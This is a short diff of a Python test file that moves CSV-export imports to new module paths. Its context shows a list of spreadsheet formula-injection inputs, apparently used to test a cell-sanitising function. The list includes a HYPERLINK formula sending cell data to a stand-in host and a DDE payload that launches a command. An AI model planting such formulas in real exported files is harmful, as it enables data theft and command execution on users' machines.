@@ -8,8 +8,8 @@ from decimal import Decimal
 
 import pytest
 
-from server.csvexport import rows_csv, safe_cell
-from server.effect import effect_csv
+from server.reminders.effect import effect_csv
+from server.web.csvexport import rows_csv, safe_cell
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1"]
